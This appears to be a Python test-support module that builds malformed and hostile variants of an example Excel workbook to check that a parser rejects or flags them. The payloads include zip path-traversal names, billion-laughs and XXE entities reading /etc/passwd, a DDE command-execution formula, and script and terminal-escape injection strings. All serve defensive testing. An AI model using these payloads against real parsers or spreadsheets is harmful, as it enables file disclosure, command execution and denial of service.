"""The shipped example with something hostile or odd in it: in, nothing; out, bytes by name. None is kept as a file.

Each row of the project's table of what must be survived is a dictionary of its own here.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from functools import cache

from tests.conftest import EXAMPLE
from tests.support.corpus import MAIN, RELATIONS, STRICT, STRICT_RELATIONS, XML, Parts, types, zipped

Make = Callable[[], bytes]
SHEETS = (
    *("Guide", "Setup", "Options", "Criteria", "Scores", "Rationale", "Comparison"),
    *("Results", "Summary", "Robustness", "Decision", "Next steps", "Checks"),
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
BOOK, LINKS, TYPES = "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml"


@cache
def _example() -> tuple[tuple[str, bytes], ...]:
    with zipfile.ZipFile(EXAMPLE) as archive:
        return tuple((name, archive.read(name)) for name in archive.namelist())


def example_parts() -> Parts:
    """The parts of the shipped example."""
    return dict(_example())


def part_of(sheet: str) -> str:
    """The part in which a sheet of the example stands."""
    return f"xl/worksheets/sheet{SHEETS.index(sheet) + 1}.xml"


def text(parts: Parts, name: str) -> str:
    """A part as text."""
    part = parts[name]
    return part if isinstance(part, str) else part.decode()


def swapped(parts: Parts, name: str, *changes: tuple[str, str]) -> Parts:
    """The parts with `old` replaced by `new` once in the part `name`; `old` must be there."""
    found = text(parts, name)
    for old, new in changes:
        assert old in found, f"{name} has no {old}"
        found = found.replace(old, new, 1)
    return {**parts, name: found}


def cell(parts: Parts, place: str, xml: str) -> Parts:
    """The parts with the cell `place` (Scores!E10) standing as `xml`; {at} in it is the address and style."""
    sheet, _, address = place.partition("!")
    found = text(parts, part_of(sheet))
    match = re.search(rf'<c r="{address}"( s="\d+")?[^>]*?(/>|>.*?</c>)', found)
    assert match, place
    new = xml.replace("{at}", f'r="{address}"{match[1] or ""}')
    return {**parts, part_of(sheet): found[: match.start()] + new + found[match.end() :]}


def typed(value: str) -> str:
    """A cell's XML with a text typed into it."""
    return f'<c {{at}} t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'


def stored(value: str, kind: str = "") -> str:
    """A cell's XML with a stored value."""
    return f"<c {{at}}{kind}><v>{value}</v></c>"


def book(**cells: str) -> bytes:
    """The example with cells replaced: book(Scores_E10=typed("High"))."""
    parts = example_parts()
    for place, xml in cells.items():
        parts = cell(parts, place.replace("_", "!"), xml)
    return zipped(parts)


def with_sheet(part: str, name: str = "Budget", hidden: str = "") -> Parts:
    """The example with a sheet of the officer's own."""
    parts = example_parts()
    tab = f'<sheet xmlns:r="{RELATIONS}" name="{name}" sheetId="99"{hidden} r:id="own"/></sheets>'
    link = f'<Relationship Id="own" Type="{RELATIONS}/worksheet" Target="worksheets/own.xml"/></Relationships>'
    parts = swapped(swapped(parts, BOOK, ("</sheets>", tab)), LINKS, ("</Relationships>", link))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    override = f'<Override PartName="/xl/worksheets/own.xml" ContentType="{kind}"/></Types>'
    return {**swapped(parts, TYPES, ("</Types>", override)), "xl/worksheets/own.xml": part}


def own(data: str = "", before: str = "", after: str = "") -> str:
    """A sheet of the officer's own with `data` inside its sheetData."""
    return f'{XML}<worksheet xmlns="{MAIN}">{before}<sheetData>{data}</sheetData>{after}</worksheet>'


def inside(sheet: str, before: str = "", rows: str = "", after: str = "") -> Parts:
    """The example with `rows` at the end of a sheet's data, `before` ahead of it and `after` behind it."""
    return swapped(
        example_parts(),
        part_of(sheet),
        ("<sheetData>", f"{before}<sheetData>"),
        ("</sheetData>", f"{rows}</sheetData>{after}"),
    )


def flip(data: bytes, old: bytes, new: bytes) -> bytes:
    """The bytes with one stretch replaced; it must be there."""
    assert old in data
    return data.replace(old, new, 1)


def directory_field(data: bytes, part: str, offset: int, value: int) -> bytes:
    """The zip's line of a part with one 4-byte field replaced."""
    at = data.rindex(part.encode()) - 46
    return data[: at + offset] + struct.pack("<L", value) + data[at + offset + 4 :]


def second(name: str) -> bytes:
    """The example with one more entry of that name in its zip."""
    buffer = io.BytesIO(EXAMPLE.read_bytes())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, example_parts()[part_of("Scores")].replace(b"Medium", b"High"))
    return buffer.getvalue()


def locked() -> bytes:
    """The example as a zip with a password on every entry."""
    data = bytearray(EXAMPLE.read_bytes())
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            data[at + offset] |= 1
    return bytes(data)


def headed(sheet: str, head: str) -> Parts:
    """The example with `head` before the root of a sheet's part."""
    parts = example_parts()
    return {**parts, part_of(sheet): XML + head + text(parts, part_of(sheet)).replace(XML, "")}


# 1 to 5: refused, each with a sentence that says which it is.

NO_WORKBOOK: dict[str, tuple[Make, str]] = {
    "truncated": (lambda: EXAMPLE.read_bytes()[:40_000], "cut short"),
    "without its end": (lambda: EXAMPLE.read_bytes()[:-30], "cut short"),
    "empty": (lambda: b"", "is empty"),
    "text": (lambda: b"Dear all,\nthe workbook follows.\n", "text file"),
    "csv": (lambda: b"Ref,Weight\nD1,10\n", "text file"),
    "html": (lambda: b"<html><table><tr><td>Ref</td></tr></table></html>", "web page"),
    "docx": (lambda: zipped({TYPES: types(), "word/document.xml": "<x/>"}), "Word document"),
    "another zip": (lambda: zipped({"a.txt": "x"}), "is a zip file"),
    "old xls": (lambda: OLE + "Workbook".encode("utf-16-le"), "old Excel file"),
    "encrypted": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
    "zip password": (locked, "password"),
    "xlsb": (lambda: zipped({TYPES: types(), "xl/workbook.bin": b"x"}), "xlsb"),
}

BROKEN_ZIP: dict[str, tuple[Make, str]] = {
    "wrong checksum": (
        lambda: flip(zipped(example_parts(), stored=(part_of("Scores"),)), b"<t>Medium</t>", b"<t>Hedium</t>"),
        "checksum",
    ),
    "broken deflate": (
        lambda: flip(zipped(example_parts()), zipped(example_parts())[3_000:3_008], b"\xff" * 8),
        "unpack|checksum|cut",
    ),
    "size too small": (lambda: directory_field(zipped(example_parts()), part_of("Scores"), 24, 5), "larger than it"),
    "size too large": (lambda: directory_field(zipped(example_parts()), part_of("Scores"), 24, 9**8), "checksum"),
    "overlap": (lambda: directory_field(zipped(example_parts()), part_of("Scores"), 20, 10**8), "overlap"),
    "same place": (
        lambda: directory_field(zipped(example_parts()), part_of("Scores"), 42, 0),
        "in one place|two names",
    ),
}

BAD_ENTRIES: dict[str, tuple[Make, str]] = {
    "twice": (lambda: second(part_of("Scores")), "twice"),
    "twice in another case": (lambda: second("XL/Worksheets/SHEET5.xml"), "twice"),
    "dots": (lambda: second("../../evil.xml"), "unsafe name"),
    "absolute": (lambda: second("/etc/evil.xml"), "unsafe name"),
    "drive": (lambda: second("C:\\evil.xml"), "unsafe name"),
    "20,000 entries": (lambda: zipped({**example_parts(), **{f"x/{n}": b"" for n in range(20_000)}}), "1,000"),
    "sheet elsewhere": (
        lambda: zipped(
            swapped(
                example_parts(),
                LINKS,
                ('Target="/xl/worksheets/sheet5.xml"', 'Target="http://127.0.0.1/x" TargetMode="External"'),
            )
        ),
        "outside|damaged",
    ),
    "sheet is the workbook": (
        lambda: zipped(swapped(example_parts(), LINKS, ("/xl/worksheets/sheet5.xml", "/xl/workbook.xml"))),
        "damaged|no cells",
    ),
    **{
        f"without {name}": (lambda name=name: zipped({n: c for n, c in example_parts().items() if n != name}), ".")
        for name in (TYPES, "_rels/.rels", BOOK, LINKS, part_of("Scores"))
    },
}

LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BAD_XML: dict[str, tuple[Make, str]] = {
    "laughs": (lambda: zipped(headed("Scores", f'<!DOCTYPE x [<!ENTITY a0 "ha">{LAUGHS}]>')), "document type"),
    "outside entity": (
        lambda: zipped(headed("Setup", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        "document type",
    ),
    "remote type": (lambda: zipped(headed("Criteria", '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x">')), "document type"),
    "parameter entity": (lambda: zipped(headed("Scores", '<!DOCTYPE x [<!ENTITY % p "x">]>')), "document type"),
    "hidden in UTF-16": (
        lambda: zipped(
            {
                **example_parts(),
                part_of("Scores"): '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16"),
            }
        ),
        "document type",
    ),
    "nested": (lambda: zipped(inside("Scores", before="<a>" * 400 + "</a>" * 400)), "nested"),
    "bad bytes": (
        lambda: zipped(
            {
                **example_parts(),
                part_of("Scores"): example_parts()[part_of("Scores")].replace(b"Medium", b"\xff\xfe", 1),
            }
        ),
        "not valid XML",
    ),
    "unknown encoding": (
        lambda: zipped({**example_parts(), part_of("Scores"): b'<?xml version="1.0" encoding="no-such"?><x/>'}),
        "encoding|not valid",
    ),
    "empty part": (lambda: zipped({**example_parts(), part_of("Scores"): b""}), "not valid XML"),
    "control character": (lambda: book(Scores_E10=typed("\x01")), "not valid XML"),
    "styles with a type": (
        lambda: zipped(swapped(example_parts(), "xl/styles.xml", ("<styleSheet", "<!DOCTYPE x><styleSheet"))),
        "document type",
    ),
}

REFUSED = {**NO_WORKBOOK, **BROKEN_ZIP, **BAD_ENTRIES, **BAD_XML}

# 7: never a number in the wrong cell.

BAD_CELLS: dict[str, tuple[Make, str]] = {
    "address outside": (lambda: book(Scores_E10='<c r="XFE10"><v>1</v></c>'), "calls itself"),
    "address of another row": (lambda: book(Scores_E10='<c r="E11"><v>1</v></c>'), "calls itself"),
    "no address at all": (lambda: book(Scores_E10='<c r=""><v>1</v></c>'), "calls itself"),
    "row 0": (lambda: zipped(inside("Scores", rows='<row r="0"><c><v>1</v></c></row>')), "row is called"),
    "row beyond": (lambda: zipped(inside("Scores", rows='<row r="1048577"/>')), "row is called"),
}
REFUSED.update(BAD_CELLS)

# 8: hidden, filtered, merged, renamed, doubled: found, with the place. Each gives what the concise check must say.

FILTER = '<filterColumn colId="0"><filters><filter val="D1"/></filters></filterColumn>'
HIDDEN: dict[str, tuple[Make, str]] = {
    "hidden row": (
        lambda: zipped(
            swapped(
                example_parts(),
                part_of("Scores"),
                ('<row r="10" ht="23" customHeight="1">', '<row r="10" ht="23" customHeight="1" hidden="1">'),
            )
        ),
        r"Scores!\S*10.* XLA109",
    ),
    "hidden column": (
        lambda: zipped(swapped(example_parts(), part_of("Scores"), ('min="6" max="6"', 'min="6" max="6" hidden="1"'))),
        r"Scores!\S*F.* XLA109",
    ),
    "hidden sheet": (
        lambda: zipped(
            swapped(
                example_parts(),
                BOOK,
                ('name="Criteria" sheetId="4" state="visible"', 'name="Criteria" sheetId="4" state="veryHidden"'),
            )
        ),
        r"Criteria.* XLA109",
    ),
    "merged inputs": (
        lambda: zipped(inside("Scores", after='<mergeCells><mergeCell ref="E10:F10"/></mergeCells>')),
        r"Scores!\S*10.* XLA110",
    ),
    "filter": (
        lambda: zipped(
            swapped(
                example_parts(),
                part_of("Scores"),
                ('<row r="10" ht="23" customHeight="1">', '<row r="10" ht="23" customHeight="1" hidden="1">'),
                ("</sheetData>", f'</sheetData><autoFilter ref="A5:I33">{FILTER}</autoFilter>'),
            )
        ),
        r"Scores.* XLA111",
    ),
    "sheet renamed": (
        lambda: zipped(swapped(example_parts(), BOOK, ('name="Scores"', 'name="Scores (2)"'))),
        r"Scores.* XLA125",
    ),
    "sheet looks like another": (
        lambda: zipped(
            with_sheet(own('<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'), "Scores\u200b")
        ),
        r"XLA102",
    ),
    "cell twice": (
        lambda: book(
            Scores_E10='<c {at} t="inlineStr"><is><t>High</t></is></c><c {at} t="inlineStr"><is><t>Low</t></is></c>'
        ),
        r"Scores!E10.* error",
    ),
}

# 9: a weight or a score that is none: found at its cell, never taken for a number.

NOT_A_WEIGHT = {
    "NaN": stored("NaN"), "INF": stored("INF"), "1e400": stored("1e400"), "-1e400": stored("-1e400"),
    "negative": stored("-3"), "zero": stored("0"), "text": typed("3"), "percent": typed("30%"),
    "boolean": stored("1", ' t="b"'), "error": stored("#DIV/0!", ' t="e"'), "blank": "<c {at}/>",
    "no-break space": typed("\u00a0"), "comma": typed("3,5"), "stored comma": stored("3,5"),
    "full width": typed("４"), "stored full width": stored("４０"), "underscore": stored("4_0"),
    "hexadecimal": stored("0x10"), "no stored value": "<c {at}><f>1+2</f></c>",
    "circular": '<c {at}><f>F10</f><v>0</v></c>', "huge": stored("1e308"), "tiny": stored("1e-320"),
    "index of no text": stored("999999", ' t="s"'), "negative index": stored("-1", ' t="s"'),
    "unknown type": stored("3", ' t="zz"'), "two values": "<c {at}><v>3</v><v>9</v></c>", "Arabic": stored("٣"),
    "date": stored("2026-01-01", ' t="d"'), "space inside": stored("1 0"),
}  # fmt: skip

NOT_A_SCORE = {
    "NaN": stored("NaN"), "number": stored("10"), "error": stored("#N/A", ' t="e"'), "boolean": stored("1", ' t="b"'),
    "text of a number": typed("10"), "percent": typed("100%"), "no stored value": '<c {at}><f>"High"</f></c>',
    "zero width": typed("High\u200b"), "homoglyph": typed("Нigh"), "misspelt": typed("Hgih"), "tab": typed("High\t"),
    "full width": typed("Ｈｉｇｈ"), "combining": typed("Hi\u0301gh"), "soft hyphen": typed("Hi\u00adgh"),
    "right to left": typed("\u202ehgiH"), "line": typed("High\nLow"), "escaped": typed("_x0048_igh_x0007_"),
    "formula": typed("=High"), "longest": typed("High" * 9000),
}  # fmt: skip

UNTIDY_SCORE = {
    "case": typed("mEDIUM"), "space": typed(" Medium "), "no-break space": typed("\u00a0Medium"),
    "spaces": typed("Medium  "),
}  # fmt: skip

# 10: look-alike names. The place and what must be said.

LOOK_ALIKES: dict[str, tuple[Make, str]] = {
    "option column in another case": (lambda: book(Scores_E5=typed("o1 Strategic Partnership")), ""),
    "option with zero width": (lambda: book(Scores_E5=typed("O1\u200b A name of its own")), ""),
    "option with Cyrillic O": (lambda: book(Scores_E5=typed("О1 A name of its own")), "XLA3(10|14)"),
    "option's ID with Cyrillic O": (lambda: book(Options_A6=typed("О1")), "Options!A6.* error"),
    "criterion with zero width": (lambda: book(Scores_A10=typed("D5\u200b")), "Scores!A10|D5"),
    "criterion with homoglyph": (lambda: book(Scores_A24=typed("Ѵ4")), "XLA313"),
    "criterion twice but for case": (lambda: book(Criteria_A10=typed("d4")), "XLA371"),
    "criterion twice but for space": (lambda: book(Criteria_A10=typed("D4 ")), "XLA371"),
    "criterion twice but for zero width": (lambda: book(Criteria_A10=typed("D4\u200b")), "Criteria!A10.* error"),
    "group but for NFD": (lambda: book(Criteria_B10=typed("De\u0301sirability")), "XLA224"),
    "group but for zero width": (lambda: book(Criteria_B10=typed("Desirability\u200b")), "XLA224"),
    "kind with homoglyph": (lambda: book(Criteria_E10=typed("Sсored")), "XLA211"),
    "names the same but for zero width": (
        lambda: book(Options_B7=typed("Improved Status Quo\u200b"), Options_B6=typed("Improved Status Quo")),
        "XLA323",
    ),
    "heading with zero width": (lambda: book(Criteria_F5=typed("Weight\u200b")), "XLA10[36]"),
}

# 11 and 12: text that would be run, or would speak to the terminal or the reader's browser.

FORMULAS = ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1", "\n=1", "＝1+1", "=cmd|' /C calc'!A0",
            '=WEBSERVICE("http://127.0.0.1:9/"&amp;A1)', "=HYPERLINK(\"http://127.0.0.1:9\",\"x\")", " =1")  # fmt: skip
SPOKEN = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "{{ 7*7 }}{% raw %}",
    "_x001B_[31mred_x001B_[0m",
    "_x001B_]0;title_x0007_", "\u202ecod.exe", "a\u200bb", "_x0000_nul", "\u2066isolate", "]]&gt;--&gt;", "\u0085next",
    "javascript:alert(1)", "[x](javascript:alert(1))", "![x](http://127.0.0.1:9/x.png)", "| a | b |", "x" * 40_000,
    "_x202E_", "\u2028line",
    "&lt;/title&gt;&lt;svg onload=alert(1)&gt;", "%s%n{0}", "\U000e0041tag", "\ufeffmark",
)  # fmt: skip


def speaking(words: str) -> bytes:
    """The example with `words` wherever an officer's own text goes into output."""
    return book(
        Setup_B6=typed(words), Options_B6=typed(words), Options_E6=typed(words), Criteria_C7=typed(words),
        Criteria_D7=typed(words), Criteria_K7=typed(words), Rationale_E10=typed(words), Scores_F10=typed(words),
        Criteria_G8=typed(words),
    )  # fmt: skip


# 13: the same workbook stored otherwise: the same numbers.


def strict() -> bytes:
    """The example with the names of strict Office Open XML."""
    swaps = ((MAIN, STRICT), (RELATIONS, STRICT_RELATIONS))
    parts = {}
    for name, data in example_parts().items():
        found = data.decode() if isinstance(data, bytes) else data
        for old, new in swaps:
            found = found.replace(old, new)
        parts[name] = found
    return zipped(parts)


def prefixed(sheet: str) -> bytes:
    """The example with a prefix on every element of one sheet."""
    parts = example_parts()
    found = text(parts, part_of(sheet))
    new = re.sub(r"<(/?)([A-Za-z])", r"<\1x:\2", found).replace("<x:worksheet xmlns=", "<x:worksheet xmlns:x=", 1)
    return zipped({**parts, part_of(sheet): new})


def recoded(codec: str) -> bytes:
    """The example with the sheets of entries in another encoding."""
    parts = example_parts()
    for sheet in ("Setup", "Options", "Criteria", "Scores"):
        head = f'<?xml version="1.0" encoding="{codec}"?>'
        parts[part_of(sheet)] = (head + text(parts, part_of(sheet))).encode(codec)
    return zipped(parts)


def without_addresses() -> bytes:
    """The example with the Scores' cells told by their order only."""
    parts = example_parts()
    found = re.sub(r'(<(?:row|c)) r="\w+"', r"\1", text(parts, part_of("Scores")))
    return zipped({**parts, part_of("Scores"): found})


def rich() -> bytes:
    """The example with a score in rich text."""
    return book(
        Scores_E10='<c {at} t="inlineStr"><is><r><rPr><b/></rPr><t>Med</t></r><r><t>ium</t></r>'
        '<rPh sb="0" eb="1"><t>x</t></rPh></is></c>'
    )


def macros() -> bytes:
    """The example as a workbook with macros, whatever its name says."""
    kind = ("spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml")
    parts = swapped(example_parts(), TYPES, ("openxmlformats-officedocument." + kind[0], kind[1]))
    return zipped({**parts, "xl/vbaProject.bin": OLE})


def disordered() -> bytes:
    """The example with two rows of Scores in the wrong order."""
    parts = example_parts()
    found = text(parts, part_of("Scores"))
    rows = re.findall(r'<row r="1[01]".*?</row>', found)
    return zipped({**parts, part_of("Scores"): found.replace(rows[0] + rows[1], rows[1] + rows[0])})


SAME: dict[str, Make] = {
    "strict": strict,
    "prefix": lambda: prefixed("Scores"),
    "prefix on Criteria": lambda: prefixed("Criteria"),
    "UTF-16": lambda: recoded("utf-16"),
    "without addresses": without_addresses,
    "rich text": rich,
    "macros": macros,
    "rows out of order": disordered,
    "dates from 1904": lambda: zipped(swapped(example_parts(), BOOK, ("<workbookPr/>", '<workbookPr date1904="1"/>'))),
    "something embedded": lambda: zipped({**example_parts(), "xl/embeddings/a.xlsx": zipped({"../../evil": "x"})}),
}
